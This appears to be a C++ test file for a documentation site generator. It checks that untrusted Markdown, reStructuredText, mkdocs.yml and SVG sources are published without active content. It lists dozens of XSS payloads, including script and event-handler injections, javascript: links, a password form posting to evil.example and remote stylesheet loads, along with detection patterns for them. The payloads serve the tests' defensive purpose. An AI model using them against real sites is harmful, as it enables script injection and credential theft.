// Markdown and reStructuredText of authors nobody trusts: forty ways to run something in a reader's
// browser in each, built by the program and parsed by a real Chromium and by kbuild's own
// tokeniser; and what else an untrusted source may not publish.
#include <filesystem>

#include "base/format.h"
#include "base/text.h"
#include "html/address.h"
#include "html/svg.h"
#include "html/token.h"
#include "program_site.h"
#include "support/browser.h"
#include "whole/served_site.h"

using namespace kbuild;
using test::contains;
using test::ProgramSite;

namespace {

/// Each calls kb(), loads something or covers the page where it is let through.
constexpr const char* kMarkdownVectors[] = {
    "<script>kb()</script>",
    "text <script>kb()</script> text",
    "<img src=x onerror=kb()>",
    "text <img src=x onerror=kb()> text",
    "<svg onload=kb()></svg>",
    "<iframe src=javascript:kb()></iframe>",
    "<iframe srcdoc='<script>parent.kb()</script>'></iframe>",
    "<object data=javascript:kb()></object>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=kb()>x</details>",
    "<a href='javascript:kb()'>x</a>",
    "[x](javascript:kb())",
    "[x](JaVaScRiPt:kb())",
    "[x](java&Tab;script:kb())",
    "[x](data:text/html,<script>kb()</script>)",
    "[x](vscode://file/x) ![x](ms-word:ofe|u|x)",
    "![x](javascript:kb())",
    "![x](x){: onerror=kb() }",
    "[x](y){: onclick=\"kb()\" }",
    "[x](y){: href=\"javascript:kb()\" }",
    "paragraph\n{: style=\"position:fixed;inset:0;background:url(//evil.example/x)\" }",
    "# Heading {: onmouseover=kb() style=\"behavior:url(x)\" }",
    "- item {: onclick=kb() style=\"position:fixed\" }",
    "| a |\n|---|\n| b {: onclick=kb() style='position:fixed' } |",
    "<div markdown onclick=kb() style='position:fixed'>\n*x*\n</div>",
    "<div markdown='1'>\n<script>kb()</script>\n</div>",
    "<p markdown=span onclick=kb()>*x*</p>",
    "<javascript:kb()>",
    "[x]: javascript:kb()\n\n[x]",
    "--8<-- \"evil.html\"",
    "!!! note \"<script>kb()</script>\"\n    x",
    "??? note \"<img src=x onerror=kb()>\"\n    x",
    "=== \"<script>kb()</script>\"\n    x",
    "```{.bash title=\"<script>kb()</script>\" onclick=kb()}\nx\n```",
    "*[HTML]: \"><script>kb()</script>\n\nHTML",
    "x[^1]\n\n[^1]: <script>kb()</script>",
    "<!--><script>kb()</script>-->",
    "&lt;script&gt;kb()&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=kb()></style></mglyph></table></mtext>",
    "$\\href{javascript:kb()}{x}$ and $\\text{<img src=x onerror=kb()>}$",
};

constexpr const char* kRstVectors[] = {
    ".. raw:: html\n\n   <script>kb()</script>",
    ".. raw:: html\n\n   <img src=x onerror=kb()>",
    ".. raw:: html\n\n   <svg onload=kb()></svg>",
    ".. raw:: html\n\n   <iframe srcdoc='<script>parent.kb()</script>'></iframe>",
    ".. raw:: html\n\n   <div style='position:fixed;background:url(//evil.example)'>x</div>",
    ".. raw:: html\n\n   <form action=//evil.example><input name=password></form>",
    ".. raw:: html\n\n   <meta http-equiv=refresh content='0;url=//evil.example'>",
    ".. raw:: html\n\n   <base href=//evil.example/>",
    ".. raw:: html\n\n   <style>*{background:url(//evil.example/x)}</style>",
    ".. raw:: html\n   :file: evil.html",
    ".. raw:: HTML\n\n   <a href='javascript:kb()'>x</a>",
    ".. raw:: latex html\n\n   <object data=javascript:kb()></object>",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=x onerror=kb()>`",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>kb()</script>`",
    ".. role:: raw-html(raw)\n   :format: html\n   :class: a\"onclick=\"kb()\n\n:raw-html:`x`",
    ".. |x| raw:: html\n\n   <script>kb()</script>\n\n|x|",
    "`x <javascript:kb()>`_",
    "`x <JAVASCRIPT:kb()>`__",
    "`x <data:text/html,<script>kb()</script>>`_",
    ".. _x: javascript:kb()\n\nx_",
    ".. image:: javascript:kb()",
    ".. image:: x.png\n   :target: javascript:kb()",
    ".. image:: x.png\n   :alt: \"><script>kb()</script>",
    ".. figure:: x.png\n   :target: javascript:kb()\n   :width: 1\" onload=\"kb()",
    ".. image:: x.png\n   :width: 1px;position:fixed",
    ".. image:: x.png\n   :height: expression(kb())",
    ".. container:: a\" onclick=\"kb()\n\n   x",
    ".. class:: a\" onclick=\"kb()\n\nx",
    ".. code-block:: bash\n   :caption: <script>kb()</script>\n\n   x",
    ".. code-block:: \"><script>kb()</script>\n\n   x",
    ".. parsed-literal::\n\n   <script>kb()</script> `x <javascript:kb()>`_",
    ".. math:: \\href{javascript:kb()}{x}",
    ":math:`\\text{<img src=x onerror=kb()>}`",
    ".. admonition:: <script>kb()</script>\n\n   x",
    ".. topic:: <img src=x onerror=kb()>\n\n   x",
    ".. list-table:: <script>kb()</script>\n   :widths: 1\" onclick=\"kb()\n\n   * - x",
    ".. include:: evil.html",
    ".. include:: evil.html\n   :literal:",
    ".. literalinclude:: evil.html\n   :caption: <script>kb()</script>",
    ".. csv-table:: x\n   :header: <script>kb()</script>\n\n   <img src=x onerror=kb()>,x",
    ".. tabs::\n\n   .. tab:: <script>kb()</script>\n\n      x",
    "<script>kb()</script> *<img src=x onerror=kb()>*",
    ".. meta::\n   :description: \"><script>kb()</script>\n\nx",
    ".. |y| image:: javascript:kb()\n   :target: javascript:kb()\n\n|y|",
};

/// What of a page could run, load or cover something; by the tokeniser.
std::vector<std::string> active_parts(std::string_view html) {
  constexpr std::string_view kForbidden[] = {"script", "iframe", "object", "embed", "style",
                                             "link",   "meta",   "base",   "form",  "svg"};
  std::vector<std::string> found;
  html::HtmlTokeniser tokens(html);
  html::HtmlToken token;
  while (tokens.next(token)) {
    if (token.kind != html::HtmlKind::start_tag) continue;
    // The theme's own drawings have this class.
    bool icon = token.name == "svg" && contains(token.raw, "kb-icon");
    for (std::string_view name : kForbidden)
      if (token.name == name && !icon) found.push_back(token.name);
    for (const html::HtmlAttribute& attribute : token.attributes) {
      if (attribute.name.starts_with("on") || attribute.name == "srcdoc")
        found.push_back(attribute.name);
      if ((attribute.name == "href" || attribute.name == "src" || attribute.name == "action") &&
          !html::is_safe_url(attribute.value, html::AddressUse::stranger))
        found.push_back(attribute.name + "=" + attribute.value);
      if (attribute.name == "style" &&
          (contains(attribute.value, "url") || contains(attribute.value, "fixed") ||
           contains(attribute.value, "expression")))
        found.push_back("style=" + attribute.value);
    }
  }
  return found;
}

std::string article_of(const std::string& page) {
  std::size_t begin = page.find("<article"), end = page.rfind("</article>");
  REQUIRE(begin != page.npos);
  REQUIRE(end != page.npos);
  return page.substr(begin, end - begin);
}

/// A site of a page for each vector.
struct VectorSite : ProgramSite {
  std::vector<std::string> pages;

  VectorSite() {
    write("kbuild.yml",
          "site: {name: x}\nsources:\n- {path: docs, lang: en, trust: untrusted}\n"
          "- {path: rst, lang: en, mount: rst, dialect: rst, trust: untrusted}\n");
    const std::string evil = "<script>kb()</script><img src=x onerror=kb()>\n";
    write("docs/index.md", "# Vectors\n");
    write("docs/evil.html", evil);
    write("rst/evil.html", evil);
    write("docs/x.png", "x");
    int number = 0;
    for (const char* text : kMarkdownVectors) {
      write(base::format("docs/m{}.md", number), base::format("# Page\n\nBefore.\n\n{}\n", text));
      pages.push_back(base::format("m{}/", number++));
    }
    number = 0;
    for (const char* text : kRstVectors) {
      write(base::format("rst/r{}.rst", number),
            base::format("Page\n====\n\nBefore.\n\n{}\n", text));
      pages.push_back(base::format("rst/r{}/", number++));
    }
  }
};

}  // namespace

TEST_CASE("nothing of an untrusted page can run, by the tokeniser") {
  VectorSite site;
  CHECK(std::size(kMarkdownVectors) >= 40);
  CHECK(std::size(kRstVectors) >= 40);
  std::string said = site.build();
  CHECK(contains(said, "KB0050"));
  CHECK(contains(said, "KB0347"));
  CHECK(contains(said, "KB0043"));
  CHECK_FALSE(site.has("site/evil.html"));
  for (const std::string& page : site.pages) {
    CAPTURE(page);
    std::string html = site.read("site/" + page + "index.html");
    for (const std::string& part : active_parts(article_of(html))) FAIL_CHECK(part);
    // Whatever should pass after all, the policy lets nothing of it run.
    CHECK(contains(html, "script-src 'self';"));
    CHECK(
        contains(html, "frame-src 'none'; object-src 'none'; form-action 'self'; base-uri 'none'"));
  }
}

TEST_CASE("nothing of an untrusted page can run, by a browser") {
  auto browser = test::Browser::start();
  if (!browser) return;
  VectorSite site;
  site.build();
  test::ServedDirectory server(site.work.path + "/site");
  browser->open(server.address);
  std::string pages;
  for (const std::string& page : site.pages) pages += "'" + page + "',";
  browser->script(
      "window.kbWalk = undefined; (async () => { const found = [];"
      "for (const url of [" +
      pages + R"JS(]) {
      const text = await (await fetch(url)).text();
      const page = new DOMParser().parseFromString(text, 'text/html');
      const article = page.querySelector('article');
      if (!article) { found.push(url + ': no article'); continue; }
      for (const element of article.querySelectorAll('*')) {
        const say = what => found.push(url + ': ' + what + ' in ' + element.outerHTML.slice(0, 200));
        const name = element.localName.toLowerCase();
        if (['script', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form'].includes(name)) say(name);
        for (const { name: key, value } of element.attributes) {
          if (key.startsWith('on') || key === 'srcdoc') say(key);
          if (['href', 'src', 'action', 'xlink:href', 'formaction', 'poster', 'background'].includes(key)) {
            const protocol = URL.canParse(value, 'https://x.invalid/') ? new URL(value, 'https://x.invalid/').protocol : '';
            if (['javascript:', 'data:', 'vbscript:'].includes(protocol)) say(key);
          }
          if (key === 'style' && /url|fixed|expression|behavior/.test(value)) say(key);
        }
      }
    }
    return found.join('\n'); })().then(v => { window.kbWalk = v; }, e => { window.kbWalk = String(e); }))JS");
  REQUIRE(browser->wait_for("window.kbWalk !== undefined"));
  CHECK(browser->script("return window.kbWalk") == "");
}

TEST_CASE("the authors of a trusted source may write HTML, and those of a wiki by leave") {
  ProgramSite site;
  const std::string text = "# Page\n\n<div onclick=\"kb()\" style=\"color: red\">x</div>\n";
  site.write("docs/index.md", text);
  site.write("kbuild.yml", "sources: [{path: docs, lang: en}]\n");
  site.build();
  std::string page = site.read("site/index.html");
  CHECK(contains(page, "onclick=\"kb()\""));
  CHECK(contains(page, "script-src-attr 'unsafe-hashes' 'sha256-"));
  CHECK(contains(page, "style-src-attr 'unsafe-hashes' 'sha256-"));
  // Changing whom to trust changes pages that are otherwise as they were.
  site.write("kbuild.yml", "sources: [{path: docs, lang: en, trust: untrusted}]\n");
  site.build();
  page = site.read("site/index.html");
  CHECK_FALSE(contains(page, "onclick"));
  CHECK(contains(page, "color: red"));
  CHECK_FALSE(contains(page, "script-src-attr"));
  site.write("kbuild.yml", "sources: [{path: wiki, lang: en, dialect: twiki}]\n");
  site.write("wiki/WebHome.txt", "---+ Page\n\n<literal><script>kb()</script></literal>\n");
  site.build();
  CHECK_FALSE(contains(site.read("site/WebHome/index.html"), "<script>kb()"));
  site.write("kbuild.yml", "sources: [{path: wiki, lang: en, dialect: twiki, trust: trusted}]\n");
  site.build();
  CHECK(contains(site.read("site/WebHome/index.html"), "<script>kb()</script>"));
  site.write("kbuild.yml", "sources: [{path: docs, lang: en, trust: nobody}]\n");
  CHECK(contains(site.build(), "KB0902"));
  CHECK_FALSE(contains(site.read("site/index.html"), "onclick"));
}

TEST_CASE("the mkdocs.yml of an untrusted source writes no HTML into pages") {
  ProgramSite site;
  site.write("docs/index.md", "# Page\n");
  site.write("mkdocs.yml",
             "site_name: x\ncopyright: '<b>C</b><script>kb()</script><img src=x onerror=kb()>'\n"
             "extra_javascript: [https://evil.example/x.js]\nextra_css: [//evil.example/x.css]\n"
             "extra: {analytics: {property: \"'><script>kb()</script>\"}, social: [{link: "
             "'javascript:kb()', name: x}]}\n");
  site.write("kbuild.yml",
             "sources: [{path: docs, lang: en, mkdocs: mkdocs.yml, trust: untrusted}]\n");
  site.build();
  std::string page = site.read("site/index.html");
  CHECK(contains(page, "<b>C</b>"));
  CHECK_FALSE(contains(page, "kb()"));
  CHECK_FALSE(contains(page, "evil.example"));
}

TEST_CASE("drawings of an untrusted source are published where nothing in them is active") {
  const std::string open = "<svg xmlns=\"http://www.w3.org/2000/svg\">";
  CHECK(html::is_passive_svg("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + open +
                             "<metadata><rdf:description/></metadata><a href=\"#x\"><path d=\"M0 "
                             "0\" style=\"fill:url(#x)\"/></a><text>on time = 5</text></svg>"));
  for (const char* part :
       {"<script>kb()</script>", "<x:script>kb()</x:script>", "<SCRIPT/>", "<g onclick='kb()'/>",
        "<g\nonclick =\n'kb()'/>", "<a href='javascript:kb()'/>", "<a xlink:href = \"&#106;ava\"/>",
        "<foreignObject/>", "<animate attributeName='href'/>", "<set/>", "<use href='data:x'/>",
        "<handler/>", "<iframe/>", "<a xml:base='javascript:'/>"}) {
    CAPTURE(part);
    CHECK_FALSE(html::is_passive_svg(open + part + "</svg>"));
  }
  CHECK_FALSE(html::is_passive_svg("<!DOCTYPE svg [<!ENTITY x '<script>kb()</script>'>]>" + open));
  CHECK_FALSE(html::is_passive_svg("<?xml version='1.0' encoding='UTF-7'?>" + open));
  CHECK_FALSE(html::is_passive_svg(std::string("<\0s\0v\0g\0", 8)));
  ProgramSite site;
  site.write("kbuild.yml", "sources: [{path: docs, lang: en, trust: untrusted}]\n");
  site.write("docs/index.md", "# Page\n");
  site.write("docs/good.svg", open + "<path d=\"M0 0\"/></svg>");
  site.write("docs/bad.svg", open + "<script>kb()</script></svg>");
  site.write("docs/x.js", "kb()");
  site.build();
  CHECK(site.has("site/good.svg"));
  CHECK_FALSE(site.has("site/bad.svg"));
  CHECK_FALSE(site.has("site/x.js"));
}
